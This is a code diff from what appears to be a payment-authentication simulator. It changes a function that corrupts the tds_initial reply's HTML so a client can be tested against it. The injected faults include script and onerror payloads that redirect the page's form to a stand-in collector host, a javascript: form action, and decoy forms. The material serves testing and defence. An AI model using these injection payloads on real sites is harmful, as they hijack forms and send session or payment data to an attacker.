@@ -1,11 +1,12 @@
 import type { FaultName } from '@/simulator/faults/catalogue'
-import type { JsonObject } from '@/simulator/services/service'
-import { gatePath, renderGateForm } from '@/simulator/services/tds-initial'
+import { gatePath, renderGateForm } from '@/simulator/protocol/gate'
+import type { JsonObject } from '@/simulator/protocol/reply'
+import { hostileCode } from './hostile'
 
 const foreign = 'https://collector.example/3d'
 
-/** Twists the answer of tds_initial as the named fault says; null when the fault is about something else. */
-export function spoilInitial(fault: FaultName, body: JsonObject, origin: string): JsonObject | null {
+/** Changes the answer of tds_initial as the fault says; null for any other fault. */
+export function spoilInitial(body: JsonObject, fault: FaultName, origin: string): JsonObject | null {
   const sessionId = String(body.session_id)
   const tokenId = String(body.token_id)
   const gate = `${origin}${gatePath}`
@@ -22,13 +23,13 @@ export function spoilInitial(fault: FaultName, body: JsonObject, origin: string)
     case 'html-empty-inputs':
       return { ...body, html_content: renderGateForm(gate, '', '') }
     case 'html-hostile-script':
-      return { ...body, html_content: hostileScript(form(gate)) }
+      return { ...body, html_content: surroundWithScripts(form(gate)) }
     case 'html-foreign-host':
       return { ...body, html_content: form(foreign) }
     case 'html-http-foreign':
       return { ...body, html_content: form(foreign.replace('https:', 'http:')) }
     case 'html-javascript-action':
-      return { ...body, html_content: form('javascript:window.__hostile=true') }
+      return { ...body, html_content: form(`javascript:${hostileCode}`) }
     case 'html-two-forms':
       return { ...body, html_content: decoy(foreign) + form(gate) }
     case 'html-nested':
@@ -44,7 +45,7 @@ function decoy(action: string): string {
   return `<form method="post" action="${action}"><input type="hidden" name="session_id" value="x"/></form>`
 }
 
-function hostileScript(form: string): string {
-  const seize = `window.__hostile=true;document.forms[0]&&(document.forms[0].action='${foreign}')`
+function surroundWithScripts(form: string): string {
+  const seize = `${hostileCode};document.forms[0]&&(document.forms[0].action='${foreign}')`
   return `<script>${seize}</script><img src="x" alt="" onerror="${seize}"/>${form}<script>${seize}</script>`
 }
